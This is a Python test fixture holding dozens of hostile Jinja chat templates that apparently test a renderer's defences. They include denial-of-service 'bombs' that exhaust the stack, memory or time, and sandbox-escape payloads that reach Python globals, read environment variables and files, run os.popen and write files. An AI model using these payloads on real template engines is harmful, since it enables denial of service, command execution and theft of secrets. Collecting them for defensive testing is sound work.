"""Chat templates that attack whoever renders them: bombs, which take time, memory or the stack, and escapes.

An escape tries to reach Python, the environment or a file from inside the template. `CANARY` stands in the
environment variable TFM_CANARY and in the file that `{file}` names; `{new}` is a file that isn't there.
"""

from __future__ import annotations

CANARY = "canary-5d1c"


def _doubled(use: str, start: str = "[1]", step: str = "[ns.x, ns.x]", rounds: int = 40) -> str:
    """A value that holds itself twice, forty times over, and what is done with it."""
    return (
        f"{{% set ns = namespace(x={start}) %}}{{% for i in range({rounds}) %}}{{% set ns.x = {step} %}}"
        f"{{% endfor %}}{use}"
    )


def _deep(use: str) -> str:
    """A list that is nested a hundred thousand times while it is rendered, and what is done with it."""
    return _doubled(use, step="[ns.x]", rounds=100_000)


SELF = "{% set ns = namespace() %}{% set ns.x = ns %}"
BOMBS = {
    # The stack.
    "a namespace in itself as JSON": SELF + "{{ ns | tojson }}",
    "a namespace in itself, joined": SELF
    + "{% for i in range(40) %}{% set ns.x = [ns.x, ns.x] %}{% endfor %}{{ ns.x | join }}",
    "minus": "{{ " + 200_000 * "-" + "1 }}",
    "not": "{{ " + 20_000 * "not " + "1 }}",
    "lists": "{{ " + 100_000 * "[" + 100_000 * "]" + " }}",
    "parentheses": "{{ " + 100_000 * "(" + "1" + 100_000 * ")" + " }}",
    "dictionaries": "{{ " + 40_000 * "{1:" + "1" + 40_000 * "}" + " }}",
    "ifs": 13_000 * "{% if 1 %}" + 13_000 * "{%endif%}",
    "loops": 10_000 * "{%for a in a%}" + 10_000 * "{%endfor%}",
    "filters": "{{ 1" + 80_000 * "|e" + " }}",
    "attributes": "{{ messages" + 100_000 * ".x" + " }}",
    "indices": "{{ messages" + 80_000 * "[0]" + " }}",
    "calls": "{{ range" + 100_000 * "()" + " }}",
    "conditions": "{% if 1 %}" + 15_000 * "{% elif 0 %}" + "{% endif %}",
    "concatenations": "{{ 1" + 100_000 * "~1" + " }}",
    "powers": "{{ 1" + 80_000 * "**1" + " }}",
    "a deep list": _deep("{{ ns.x }}"),
    "a deep list as JSON": _deep("{{ ns.x | tojson }}"),
    "a deep list as text": _deep("{{ ns.x ~ '' }}"),
    "a macro in itself": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "a call in itself": "{% macro f() %}{% call f() %}{% endcall %}{{ caller }}{% endmacro %}{{ f() }}",
    "a loop in itself": "{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}",
    # Time.
    "compared": _doubled("{{ ns.x == ns.x ~ '' }}"),
    "compared with another": _doubled(
        "{{ ns.x == ns.y }}", "[1], y=[1]", "[ns.x, ns.x] %}{% set ns.y = [ns.y, ns.y]"
    ),
    "printed": _doubled("{{ ns.x }}"),
    "as JSON": _doubled("{{ ns.x | tojson }}"),
    "as a string": _doubled("{{ ns.x | string | length }}"),
    "as a key": _doubled("{{ {ns.x: 1} | length }}"),
    "sorted": _doubled("{{ [ns.x, ns.x ~ ''] | sort }}"),
    "passed to a function": _doubled("{{ raise_exception(ns.x) }}"),
    "ranges": 4 * "{% for a in range(99999) %}" + 4 * "{% endfor %}",
    "lists of strings": "{{ ['a' * 1000000] * 1000000 }}",
    # Memory.
    "indent of JSON": "{{ messages | tojson(indent=100000000) }}",
    "a wide format": "{{ '{:>1000000000}'.format('a') }}",
    "a wide number": "{{ '{:01000000000d}'.format(1) }}",
    "a precise number": "{{ '{:.1000000000f}'.format(1.5) }}",
    "a repeated string": "{{ 'x' * 200000000 }}",
    "a doubled string": _doubled("", "'x'", "ns.x ~ ns.x"),
    "a doubled sum of lists": _doubled("", "[1]", "ns.x + ns.x"),
    "a repeated list": "{{ ([1] * 100000000) | tojson }}",
    "a sum of lists": "{{ ([[1] * 100000] * 100000) | sum(start=[]) }}",
    "joined": "{{ range(10000) | join('y' * 1000000) }}",
    "a power": "{{ 10 ** (10 ** 10) }}",
    "a power as text": "{{ (10 ** 4000) ** 4000 }}",
    "a folded constant": "{% if false %}{{ 'x' * 300000000 }}{% endif %}{{ 'x' * 300000000 }}",
    "a centred text": "{{ 'x' | center(1000000000) }}",
    "an indented text": "{{ 'x\nx' | indent(1000000000) }}",
    "a padded text": "{{ '%1000000000s' | format(1) }}",
    "a padded text by percent": "{{ '%1000000000d' % 1 }}",
    "a replaced text": "{{ ('x' * 100000).replace('', 'y' * 100000) }}",
    "a filled text": "{{ 'x'.zfill(1000000000) }}",
    "words": "{{ lipsum(n=100000, max=1000) }}",
    "a wide range": "{{ range(10 ** 9) | list }}",
    "batches": "{{ [1] | batch(1000000000, 0) | list }}",
    "slices": "{{ [1] | slice(1000000000) | list }}",
    "a long text": 5 * "{{ 'x' * 1000000 }}",
}

ESCAPES = {
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "subclasses of a list": "{{ [].__class__.__base__.__subclasses__() }}",
    "subclasses by subscript": "{{ ''['__class__']['__mro__'] }}",
    "the attr filter": "{{ ''|attr('__class__') }}",
    "the attr filter in hexadecimal": r"{{ ''|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fbase\x5f\x5f') }}",
    "globals of cycler": "{{ cycler.__init__.__globals__.os.environ }}",
    "globals of joiner": "{{ joiner.__init__.__globals__.os.popen('echo $TFM_CANARY').read() }}",
    "globals of namespace": "{{ namespace.__init__.__globals__.os.environ }}",
    "globals of lipsum": "{{ lipsum.__globals__['os'].popen('echo $TFM_CANARY').read() }}",
    "globals of raise_exception": "{{ raise_exception.__globals__['sys'].modules }}",
    "globals of strftime_now": "{{ (strftime_now|attr('__globals__'))['datetime'].sys.modules }}",
    "the code of raise_exception": "{{ raise_exception.__code__.co_consts }}",
    "builtins of dict": "{{ dict.__class__.__init__.__globals__['__builtins__'] }}",
    "builtins of a range": "{{ range.__self__.__import__('os').environ }}",
    "the environment by self": "{{ self.__init__.__globals__.__builtins__.open('{file}').read() }}",
    "self._TemplateReference": "{{ self._TemplateReference__context.cycler.__init__.__globals__ }}",
    "the loop's class": "{% for a in [1] %}{{ loop.__class__.__init__.__globals__ }}{% endfor %}",
    "a macro's class": "{% macro f() %}{% endmacro %}{{ f.__class__.__init__.__globals__ }}",
    "format of an object": "{{ '{0.__class__.__init__.__globals__}'.format(raise_exception) }}",
    "format_map of an object": "{{ '{a.__globals__}'.format_map({'a': strftime_now}) }}",
    "format of the filter": "{{ '%s' | format(raise_exception.__globals__) }}",
    "format in a reference": "{% set f = ''.format %}{{ f('{0.__class__}', namespace()) }}",
    "get_flashed_messages": "{{ get_flashed_messages.__globals__.__builtins__.open('{file}').read() }}",
    "config and request": "{{ config.items() }}{{ request.application.__globals__ }}",
    "include": "{% include '{file}' %}",
    "import": "{% import 'os' as os %}{{ os.environ }}",
    "extends": "{% extends '{file}' %}",
    "from import": "{% from '{file}' import environ %}{{ environ }}",
    "an attribute of all": "{{ [raise_exception] | map(attribute='__globals__') | list }}",
    "summed by an attribute": "{{ [raise_exception] | sum(attribute='__globals__') }}",
    "grouped by an attribute": "{{ ([strftime_now] | groupby('__globals__') | first).grouper }}",
    "selected by an attribute": "{{ [strftime_now] | selectattr('__code__') | list }}",
    "the map filter with attr": "{{ [raise_exception] | map('attr', '__globals__') | list }}",
    "format by a filter": "{{ ['{0.__globals__}'] | map('format', raise_exception) | list }}",
    "a reference to format by attr": "{{ ('{0.__globals__}' | attr('format'))(raise_exception) }}",
    "a reference to format by an index": "{{ '{0.__globals__}'['format'](raise_exception) }}",
    "format_map in a namespace": (
        "{% set ns = namespace(f='{a.__globals__}'.format_map) %}{{ ns.f({'a': raise_exception}) }}"
    ),
    "an underscore in a namespace": "{% set ns = namespace(__class__=1) %}{{ ns.__class__.__base__ }}",
    "a namespace by its dictionary": "{{ namespace({'__init__': 1})._Namespace__attrs }}",
    "a generator's frame": "{{ ([1] | map('string')).gi_frame.f_globals }}",
    "the caller's frame": (
        "{% macro f() %}{{ caller.__call__.__globals__ }}{% endmacro %}{% call f() %}{% endcall %}"
    ),
    "the generation block": "{% generation %}{{ caller.__globals__ }}{% endgeneration %}",
    "the bases of dict": "{{ dict.mro() }}",
    "the type of dict": "{{ dict.fromkeys.__func__.__globals__ }}",
    "a write": "{{ joiner.__init__.__globals__.__builtins__.open('{new}', 'w').write('x') }}",
}
